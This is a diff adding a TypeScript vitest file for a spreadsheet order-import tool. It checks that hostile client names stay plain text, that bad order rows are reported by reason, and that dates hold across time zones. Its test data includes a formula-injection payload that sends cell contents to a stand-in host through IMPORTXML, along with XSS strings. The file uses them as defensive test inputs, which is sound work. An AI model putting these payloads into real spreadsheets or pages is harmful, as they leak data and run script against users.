@@ -1,0 +1,118 @@
+import { describe, expect, it } from 'vitest';
+import { callServer } from '../../callServer';
+import { cellAt, rowsOf } from '../../columnOf';
+import { openText } from '../../openFile';
+import { ORDERS, recognisedOrders } from '../../orders';
+
+const HOSTILE = [
+  '=IMPORTXML("http://evil.example/?d="&A2;"//a")',
+  '=1+1',
+  '+48 600 100 200',
+  '-2',
+  '@SUM(A1)',
+  "'cytat",
+  "''dwa",
+  '＝1+1',
+  '<img src=x onerror=alert(1)>',
+  '</script><script>alert(1)</script>',
+  '#12',
+  '01234',
+  '1/2',
+  '5%',
+  'TRUE',
+  'Ж'.repeat(500),
+  'ש לום',
+];
+
+const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
+const orders = ['Data;Klient;Kwota', ...HOSTILE.map((name, i) => `05.01.2026;${quoted(name)};${1000 - i}`)].join('\n');
+
+describe.each(['consumed', 'kept'] as const)(
+  'clients with hostile names, where a guard in plain text is %s',
+  apostropheInText => {
+    it('stand in the sheet as the very text they are, and no formula is born', async () => {
+      const workbook = await openText(orders, 'pl_PL', { apostropheInText });
+      const source = recognisedOrders(workbook);
+      callServer(workbook, 'createClients', { ...source, sheetName: null });
+      const names = () => rowsOf(workbook, 'Klienci', ['client'], HOSTILE.length + 1).flat();
+      const place = (row: number) => cellAt(workbook, 'Klienci', 'client', row);
+      expect(names()).toEqual([...HOSTILE, '']);
+      expect(HOSTILE.map((_, row) => workbook.formula('Klienci', place(row))).filter(Boolean)).toEqual([]);
+
+      callServer(workbook, 'createClients', { ...source, sheetName: null });
+      expect(names()).toEqual([...HOSTILE, '']);
+      expect(HOSTILE.map((_, row) => workbook.formula('Klienci', place(row))).filter(Boolean)).toEqual([]);
+      expect(callServer(workbook, 'loadProfile').clients).toEqual(HOSTILE);
+    });
+  },
+);
+
+describe('faulty order lines', () => {
+  it('are left out and told by reason and row, all others count', async () => {
+    const workbook = await openText(
+      [
+        'Data;Klient;Kwota;Zysk',
+        '05.01.2026;Alfa;100;10',
+        'wczoraj;Alfa;100;10',
+        ';Alfa;100;10',
+        '06.01.2026;;100;10',
+        '06.01.2026;#N/A;100;10',
+        '06.01.2026;Beta;dużo;10',
+        '06.01.2026;Beta;;10',
+        '06.01.2026;Beta;50;?',
+        '06.01.2126;Beta;50;5',
+        '07.01.2026;Beta;50;',
+      ].join('\n'),
+      'pl_PL',
+    );
+    const { sheetId } = callServer(workbook, 'openWorkbook').orderSheets[0]!;
+    const preview = callServer(workbook, 'previewOrders', {
+      sheetId,
+      columns: { day: 0, client: 1, amount: 2, profit: 3 },
+    });
+    expect(preview).toMatchObject({ orders: 2, clients: 2, revenue: 150 });
+    expect(preview.skipped).toEqual([
+      { reason: 'badDay', count: 1, rows: [3] },
+      { reason: 'noDay', count: 1, rows: [4] },
+      { reason: 'noClient', count: 1, rows: [5] },
+      { reason: 'badClient', count: 1, rows: [6] },
+      { reason: 'badAmount', count: 1, rows: [7] },
+      { reason: 'noAmount', count: 1, rows: [8] },
+      { reason: 'badProfit', count: 1, rows: [9] },
+      { reason: 'futureDay', count: 1, rows: [10] },
+    ]);
+  });
+
+  it('are refused by a sentence where none is left', async () => {
+    const workbook = await openText('Data;Klient;Kwota\nwczoraj;Alfa;100', 'pl_PL');
+    const { sheetId } = callServer(workbook, 'openWorkbook').orderSheets[0]!;
+    const columns = { day: 0, client: 1, amount: 2, profit: null };
+    expect(() => callServer(workbook, 'previewOrders', { sheetId, columns })).toThrow(
+      'Żaden wiersz arkusza „orders” nie ma dnia, klienta i kwoty. Sprawdź wybrane kolumny.',
+    );
+    expect(() => callServer(workbook, 'previewOrders', { sheetId, columns: { ...columns, day: null } })).toThrow(
+      'Wybierz kolumny z dniem, klientem i kwotą.',
+    );
+    expect(() => callServer(workbook, 'previewOrders', { sheetId, columns: { ...columns, amount: 0 } })).toThrow(
+      'Jedna kolumna nie może wystąpić dwa razy',
+    );
+    expect(() => callServer(workbook, 'previewOrders', { sheetId: 999, columns })).toThrow('Tego arkusza nie ma już');
+  });
+});
+
+describe('days', () => {
+  it.each(['Europe/Warsaw', 'Europe/Moscow', 'America/Los_Angeles', 'Pacific/Auckland'])(
+    'do not shift where the spreadsheet lives in %s',
+    async timeZone => {
+      const opened = await openText(ORDERS, 'ru_RU');
+      const { createWorkbook } = await import('../../../../src/workbook/createWorkbook');
+      const { builtFiles } = await import('../../openFile');
+      const workbook = createWorkbook({ files: builtFiles(), snapshot: { ...opened.snapshot(), timeZone } });
+      callServer(workbook, 'createClients', { ...recognisedOrders(workbook), sheetName: null });
+      const place = (key: string) => cellAt(workbook, 'Клиенты', key, 0);
+      expect(workbook.display('Клиенты', place('firstDay'))).toBe('05.01.2026');
+      expect(workbook.display('Клиенты', place('lastDay'))).toBe('04.02.2026');
+      expect(workbook.cell('Клиенты', place('usualGapDays'))).toBe(30);
+    },
+  );
+});
